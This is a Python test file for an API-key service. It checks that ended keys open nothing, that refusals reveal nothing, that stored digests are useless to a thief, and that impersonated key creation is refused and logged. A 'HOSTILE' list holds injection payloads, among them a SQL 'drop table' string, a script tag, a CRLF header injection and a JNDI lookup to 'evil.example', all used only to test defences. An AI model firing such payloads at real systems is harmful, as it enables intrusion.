"""API keys: a key that was ended in any way opens nothing from the next request on. The stored form of a key is of no use to a thief.
Hostile text around a key is data or is refused. The log names anyone who makes a key in another person's name.
"""

from collections.abc import Awaitable, Callable, Mapping
from hashlib import sha256
from typing import Any, Final
from uuid import UUID, uuid4

import pytest
import trio

from actors.recorders import PresenceWriter
from core.domain.identifiers import OrganizationId
from core.domain.platform.governance import Authority
from core.domain.record.events import SYSTEM
from core.domain.services.api_keys import Permission
from entrypoints.bootstrap import Postern
from entrypoints.http.machinery.endpoints import Endpoint
from entrypoints.http.routes import ROUTES
from tests.conftest import CapturedLog
from tests.http import conftest as http
from tests.http.cast import Shops
from tests.http.client import Received
from tests.http.people import People, Person
from tests.http.signing_in import unlimited
from tests.http.test_authorization import EVERY_KEY_RULE
from tests.patience import PATIENCE

database_url, postern, people = http.database_url, http.postern, http.people

INTERFACE: Final = [one for one in ROUTES if one.caller in EVERY_KEY_RULE]
KEYS: Final = "/api/organizations/acme/services/shop/api-keys"
# For each permission, a request, and the rows that the request would change if it were let in.
BODIES: Final[Mapping[str, Callable[["KeyMisuseScene"], Mapping[str, Any]]]] = {
    "POST /api/service/users": lambda _: {"email": "new@example.org"},
    **{
        f"POST /access/v1/{path}": lambda scene: {
            "subject": {"type": "user", "id": str(scene.end_user.user)},
            "action": {"name": "read"},
            "resource": {"type": "service", "id": "shop"},
        }
        for path in ("evaluation", "evaluations", "search/action", "search/resource", "search/subject")
    },
    "POST /api/service/check": lambda scene: {"user_id": str(scene.end_user.user), "permission": "read"},
    "PATCH /api/service/users/{user_id}": lambda _: {"email": "changed@example.org"},
    "POST /api/service/subscriptions": lambda scene: {"user_id": str(scene.end_user.user), "plan_id": str(scene.plan)},
    "PATCH /api/service/subscriptions/{user_id}": lambda _: {"status": "cancelled"},
    "PATCH /api/service/info": lambda _: {"name": "Taken over"},
    "POST /api/service/user-keys": lambda scene: {"user_id": str(scene.regular.user), "name": "Another"},
    "POST /api/service/user-keys/verify": lambda scene: {"key": scene.user_key},
}


class KeyMisuseScene(Shops):
    """The shop has users, a plan and keys. One of the users has signed in, and has a key."""

    end_user: Person
    regular: Person
    plan: UUID
    user_key: str
    user_key_id: UUID

    def __post_init__(self) -> None:
        super().__post_init__()
        self.owner = self.speaker = self.resident(self.acme, "owner")
        self.end_user = self.user(email="user@example.org")
        # A user whose account was made through the shop, so that the shop's servers may change the account.
        made = "update users set origin_service_id = %s, origin_org_id = %s where id = %s"
        self.people.change(made, self.shop.id, self.acme.id, self.end_user.user)
        self.plan = self.postern.foundation.ids.new()
        self.people.change(
            "insert into plans (id, service_id, name, price_cents, currency, created_at, updated_at)"
            " values (%s, %s, 'Pro', 0, 'usd', now(), now())",
            self.plan,
            self.shop.id,
        )
        now = self.postern.foundation.clock.now()
        self.regular = self.user(email="regular@example.org", first=now, last=now)
        self.people.change(
            "insert into user_key_settings (service_id, enabled, prefix, most_keys, updated_at) values (%s, true, 'acme', 10, now())",
            self.shop.id,
        )
        self.user_key, self.user_key_id = f"acme_abcdef_{uuid4().hex}", uuid4()
        self.log.remember(self.user_key)
        self.people.change(
            "insert into user_keys (id, service_id, user_id, name, prefix, digest, scopes, created_at)"
            " values (%s, %s, %s, 'Laptop', 'acme_abcdef', %s, '{}', now())",
            *(self.user_key_id, self.shop.id, self.regular.user, sha256(self.user_key.encode()).digest()),
        )

    async def made(self, name: str = "Backend") -> dict[str, Any]:
        key = (await self.request("POST", KEYS, {"name": name, "permissions": [permission.value for permission in Permission]})).ok(201)
        self.log.remember(key["key"])
        return key

    async def knock(self, one: Endpoint, key: str) -> Received:
        body = BODIES[str(one)](self) if one.body_type is not None else None
        path = one.path.replace("{user_id}", str(self.end_user.user)).replace("{user_key_id}", str(self.user_key_id))
        return await self.client.request(one.method, path, body=body, headers=[("x-api-key", key)])

    def state(self) -> Mapping[str, Any]:
        tables = ("users", "service_users", "subscriptions", "services", "plans", "user_keys", "events", "audit_entries")
        return {table: self.people.rows(f"select * from {table} order by 1, 2") for table in tables}


@pytest.fixture
def scene(postern: Postern, people: People, log: CapturedLog) -> KeyMisuseScene:
    return KeyMisuseScene(postern, people, unlimited(postern), log)


def test_every_request_that_takes_a_body_has_one() -> None:
    assert {str(one) for one in INTERFACE if one.body_type is not None} == set(BODIES)
    assert len(INTERFACE) == 25


async def deleted(scene: KeyMisuseScene, key: Mapping[str, Any]) -> None:
    assert (await scene.request("DELETE", f"{KEYS}/{key['id']}")).status == 204


async def revoked(scene: KeyMisuseScene, key: Mapping[str, Any]) -> None:
    await scene.postern.services.api_keys.revoke(key["prefix"], "operator")


async def expired(scene: KeyMisuseScene, key: Mapping[str, Any]) -> None:
    scene.people.change("update api_keys set expires_at = now() where id = %s", key["id"])


async def without_permissions(scene: KeyMisuseScene, key: Mapping[str, Any]) -> None:
    scene.people.change("update api_keys set permissions = '{}' where id = %s", key["id"])


async def service_deleted(scene: KeyMisuseScene, _key: Mapping[str, Any]) -> None:
    assert (await scene.request("DELETE", "/api/organizations/acme/services/shop")).status == 204


async def organization_suspended(scene: KeyMisuseScene, _key: Mapping[str, Any]) -> None:
    await scene.postern.platform.governance.suspend(OrganizationId(scene.acme.id), "Unpaid", Authority(SYSTEM, "operator"))


async def organization_deleted(scene: KeyMisuseScene, _key: Mapping[str, Any]) -> None:
    assert (await scene.request("DELETE", "/api/organizations/acme")).status == 204


@pytest.mark.parametrize(
    ("end", "refusal"),
    [
        (deleted, (401, "UNAUTHORIZED")),
        (revoked, (401, "UNAUTHORIZED")),
        (expired, (401, "UNAUTHORIZED")),
        (without_permissions, (403, "FORBIDDEN")),
        (service_deleted, (401, "UNAUTHORIZED")),
        (organization_suspended, (403, "ORGANIZATION_NOT_ACTIVE")),
        (organization_deleted, (401, "UNAUTHORIZED")),
    ],
)
async def test_an_ended_key_opens_nothing_and_changes_nothing(
    scene: KeyMisuseScene, end: Callable[[KeyMisuseScene, Mapping[str, Any]], Awaitable[None]], refusal: tuple[int, str]
) -> None:
    key = await scene.made()
    assert (await scene.client.get("/api/service/info", headers=[("x-api-key", key["key"])])).status == 200
    await end(scene, key)
    before = scene.state()
    for one in INTERFACE:
        answer = await scene.knock(one, key["key"])
        assert (answer.status, answer.error_code) == refusal, one
        # The answer says no more than that: neither the reason nor the service.
        assert b"shop" not in answer.body
        assert b"acme" not in answer.body
    assert scene.state() == before


async def test_every_refused_key_gets_the_same_answer_for_every_fault(scene: KeyMisuseScene) -> None:
    unknown, old, gone = "sk_abcdef_" + "x" * 43, await scene.made(), await scene.made()
    await expired(scene, old)
    await deleted(scene, gone)
    answers = [await scene.client.get("/api/service/info", headers=[("x-api-key", text)]) for text in (unknown, old["key"], gone["key"])]
    told = [{**answer.json(), "timestamp": ""} for answer in answers]
    assert told[0] == told[1] == told[2]
    names = [sorted(name for name, _ in answer.headers) for answer in answers]
    assert names[0] == names[1] == names[2]


async def test_a_dump_of_the_database_has_no_key_in_it(scene: KeyMisuseScene) -> None:
    """Looks for used, refused and deleted keys in every table, as text and as bytes, and for the keys of users that they made."""
    keys = [await scene.made(f"Key {number}") for number in range(3)]
    of_users = []
    presence = scene.postern.services.api_keys.presence
    assert isinstance(presence, PresenceWriter)
    async with trio.open_nursery() as nursery:
        await nursery.start(presence.run)
        for key in keys:
            for one in INTERFACE:
                if one.method == "DELETE":
                    continue
                answer = await scene.knock(one, key["key"])
                if str(one) == "POST /api/service/user-keys":
                    of_users.append(answer.ok(201))
                    scene.log.remember(of_users[-1]["key"])
                else:
                    assert answer.status in {200, 409, 501}, one
        await deleted(scene, keys[2])
        with trio.fail_after(PATIENCE):
            while len(scene.people.rows("select id from api_keys where last_used_at is not null")) < 2:
                await trio.sleep(0.1)
        nursery.cancel_scope.cancel()
    tables = scene.people.rows("select tablename as name from pg_tables where schemaname = 'public'")
    dump = "\n".join(str(scene.people.rows(f'select kept::text from "{table["name"]}" as kept')) for table in tables)
    assert keys[0]["prefix"] in dump
    assert of_users[0]["prefix"] in dump
    for key in (*keys, *of_users):
        random = key["key"].rpartition("_")[2]
        for form in (key["key"], random, random[:20], random[-20:], random.encode().hex(), random[::-1]):
            assert form not in dump
    # The stored form opens nothing.
    for row in scene.people.rows("select id, prefix, digest from api_keys"):
        digest = bytes(row["digest"])
        for text in (row["prefix"], digest.hex(), f"{row['prefix']}_{digest.hex()}", str(row["id"]), digest.decode("latin-1")):
            answer = await scene.client.get("/api/service/info", headers=[("x-api-key", text)])
            assert answer.status == 401


HOSTILE: Final = (
    "'; drop table api_keys; --",
    '<script>alert("x")</script>',
    "a\r\nX-Injected: yes",
    "null\0byte",
    "\u202egnp.exe",
    "%s%n{0}${jndi:ldap://evil.example}",
    "\N{ROCKET}" * 50,
    "\x1b[2J",
    "{read:users,write:users}",
)


async def test_hostile_names_are_names_or_refused(scene: KeyMisuseScene) -> None:
    for text in HOSTILE:
        answer = await scene.request("POST", KEYS, {"name": text, "permissions": ["read:users"]})
        assert answer.status in {201, 400}, text
        if answer.status == 201:
            scene.log.remember(answer.json()["key"])
            kept = (await scene.request("GET", f"{KEYS}?limit=1")).json()["api_keys"][0]
            assert (kept["id"], kept["name"]) == (answer.json()["id"], answer.json()["name"])
            assert not set(kept["name"]) & set("\r\n\0\x1b\u202e")
            assert kept["permissions"] == ["read:users"]
    assert not scene.log.events("request_failed")


async def test_hostile_keys_are_no_keys(scene: KeyMisuseScene) -> None:
    for text in (*HOSTILE, "", "sk_", "a" * 201, "\u00ff" * 50):
        answer = await scene.client.get("/api/service/info", headers=[("x-api-key", text.encode().decode("latin-1"))])
        assert (answer.status, answer.error_code) == (401, "UNAUTHORIZED"), text
        assert answer.header("x-injected") is None
    assert not scene.log.events("request_failed")


async def test_nobody_makes_a_key_in_anothers_name_and_the_try_is_on_record(scene: KeyMisuseScene) -> None:
    operator = scene.people.add(platform_owner=True)
    acting = scene.tenants.session(scene.owner, scene.acme)
    scene.people.change(
        "update sessions set impersonator_id = %s, impersonation_id = %s where id = %s", operator.user, uuid4(), acting.session
    )
    token = await scene.tenants.token(acting, scene.acme, token_use="impersonation", impersonator=str(operator.user))
    answer = await scene.client.post(KEYS, {"name": "X", "permissions": ["read:users"]}, token=token)
    assert (answer.status, answer.error_code) == (403, "FORBIDDEN")
    assert scene.people.rows("select from api_keys where name = 'X'") == []
    (entry,) = scene.people.rows("select action, actor_id, impersonator_id from audit_log where impersonator_id is not null")
    assert entry == {"action": "security.impersonation.request", "actor_id": scene.owner.user, "impersonator_id": operator.user}
